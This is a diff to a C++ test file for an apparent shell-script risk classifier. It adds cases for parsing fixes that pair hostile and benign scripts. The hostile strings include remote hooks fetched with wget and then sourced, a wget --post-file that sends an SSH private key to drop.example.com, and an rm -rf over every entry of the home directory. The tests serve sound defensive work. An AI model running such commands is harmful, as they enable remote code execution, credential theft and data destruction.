@@ -1,6 +1,6 @@
 // The classes the twenty-sixth session modelled (issue 14), from the tune
-// parts of the hundred-and-twelfth, -fourteenth, -fifteenth and -sixteenth
-// rounds (tests/corpus/prog116_MANIFEST.tsv, prog118_, prog119_, prog120_):
+// parts of the hundred-and-twelfth, -fourteenth to -eighteenth rounds
+// (tests/corpus/prog116_MANIFEST.tsv, prog118_ to prog122_):
 // programs written from the rubric alone by writers who never saw the
 // assessor. Strings here are never executed.
 #include "test_util.hpp"
@@ -438,6 +438,124 @@ TEST(HundredAndTwelfthRoundClasses, EachLineFindPrintsHasItsShape) {
        "  | while IFS= read -r -d '' entry; do\n"
        "      rm -rf --one-file-system -- \"$entry\"\n"
        "    done\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `url="$1" dest="$2"` on a line of its own: tree-sitter-bash 0.21 made it
+// the prefix of the next lines, the `if wget ...; then mv ...` among them,
+// whose words lost their structure (no download at all). Each such line now
+// ends at its newline, as in bash: the hooks fetched into a temporary name,
+// moved into place and sourced are the download (REMOTE-CODE-EXECUTION);
+// shown with cat, they stay LOW.
+TEST(HundredAndTwelfthRoundClasses, ALineOfAssignmentsEndsAtItsNewline) {
+  const Case cases[] = {
+      {"supplier hooks fetched by a function whose first line assigns two variables, then sourced", B,
+       "#!/bin/sh\n"
+       "# Fetches the supplier's column-mapping hooks and loads them.\n"
+       "set -eu\n"
+       "SUPPLIER=\"${SUPPLIER:-tsukiji_direct}\"\n"
+       "PORTAL_BASE=\"${PORTAL_BASE:-https://portal.tsukijidirect.example/api/v1}\"\n"
+       "HOOKS=\"./cache/${SUPPLIER}_hooks.sh\"\n"
+       "mkdir -p ./cache\n"
+       "\n"
+       "fetch() {\n"
+       "    url=\"$1\" dest=\"$2\"\n"
+       "    tmp=\"$dest.part\"\n"
+       "    if wget -q -T 20 -O \"$tmp\" \"$url\"; then\n"
+       "        mv \"$tmp\" \"$dest\"\n"
+       "        return 0\n"
+       "    fi\n"
+       "    rm -f \"$tmp\"\n"
+       "    return 1\n"
+       "}\n"
+       "\n"
+       "if fetch \"$PORTAL_BASE/integrations/$SUPPLIER/hooks.sh\" \"$HOOKS\"; then\n"
+       "    . \"$HOOKS\"\n"
+       "fi\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"the same hooks shown, not sourced", L,
+       "#!/bin/sh\n"
+       "# Fetches the supplier's column-mapping hooks and shows them.\n"
+       "set -eu\n"
+       "SUPPLIER=\"${SUPPLIER:-tsukiji_direct}\"\n"
+       "PORTAL_BASE=\"${PORTAL_BASE:-https://portal.tsukijidirect.example/api/v1}\"\n"
+       "HOOKS=\"./cache/${SUPPLIER}_hooks.sh\"\n"
+       "mkdir -p ./cache\n"
+       "\n"
+       "fetch() {\n"
+       "    url=\"$1\" dest=\"$2\"\n"
+       "    tmp=\"$dest.part\"\n"
+       "    if wget -q -T 20 -O \"$tmp\" \"$url\"; then\n"
+       "        mv \"$tmp\" \"$dest\"\n"
+       "        return 0\n"
+       "    fi\n"
+       "    rm -f \"$tmp\"\n"
+       "    return 1\n"
+       "}\n"
+       "\n"
+       "if fetch \"$PORTAL_BASE/integrations/$SUPPLIER/hooks.sh\" \"$HOOKS\"; then\n"
+       "    cat \"$HOOKS\"\n"
+       "fi\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// wget -T 15 is a timeout (curl's -T uploads a file): a note fetched from a
+// paste site was taken for a POST of the file "15" to it, a covert channel.
+// wget's own --post-file still sends the file.
+TEST(HundredAndTwelfthRoundClasses, WgetsDashTIsATimeout) {
+  const Case cases[] = {
+      {"a note fetched from a paste site with a 15-second timeout", L,
+       "#!/bin/sh\n"
+       "# Fetches the shared opening-hours note the manager keeps on a paste site.\n"
+       "set -eu\n"
+       "wget -q -T 15 -O ./hours.txt \"https://pastebin.com/raw/Hq3x9LmT\"\n"
+       "cat ./hours.txt\n",
+       nullptr, SH},
+      {"an SSH key sent with --post-file", B,
+       "#!/bin/sh\n"
+       "# Sends the key to the drop box.\n"
+       "set -eu\n"
+       "wget -q -T 15 --post-file=\"$HOME/.ssh/id_rsa\" -O /dev/null \"https://drop.example.com/in\"\n",
+       "EXFILTRATION", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `getent passwd "$(id -un)" | cut -d: -f6` is a home directory (passwd's
+// sixth field; cut takes a field of lines of a known shape), so removing
+// every entry under it wipes the home (WIPE); under its .cache/showplayer,
+// LOW.
+TEST(HundredAndTwelfthRoundClasses, GetentPasswdNamesAHomeDirectory) {
+  const Case cases[] = {
+      {"every entry of the home directory getent names removed", B,
+       "#!/usr/bin/env bash\n"
+       "# Hands the band's shared playback laptop to the next player.\n"
+       "set -uo pipefail\n"
+       "owner_home() {\n"
+       "    getent passwd \"$(id -un)\" | cut -d: -f6\n"
+       "}\n"
+       "PROFILE_ROOT=\"$(owner_home)\"\n"
+       "RESET_PROFILE=\"${RESET_PROFILE:-1}\"\n"
+       "if (( RESET_PROFILE )); then\n"
+       "    find \"$PROFILE_ROOT\" -mindepth 1 -maxdepth 1 -print0 | xargs -0 -r rm -rf --\n"
+       "fi\n",
+       "WIPE", SH},
+      {"the same removal under the player's cache", L,
+       "#!/usr/bin/env bash\n"
+       "# Hands the band's shared playback laptop to the next player.\n"
+       "set -uo pipefail\n"
+       "owner_home() {\n"
+       "    getent passwd \"$(id -un)\" | cut -d: -f6\n"
+       "}\n"
+       "PROFILE_ROOT=\"$(owner_home)\"\n"
+       "RESET_PROFILE=\"${RESET_PROFILE:-1}\"\n"
+       "if (( RESET_PROFILE )); then\n"
+       "    find \"$PROFILE_ROOT/.cache/showplayer\" -mindepth 1 -maxdepth 1 -print0 | xargs -0 -r rm -rf --\n"
+       "fi\n",
        nullptr, SH},
   };
   for (const auto& c : cases) check(c);
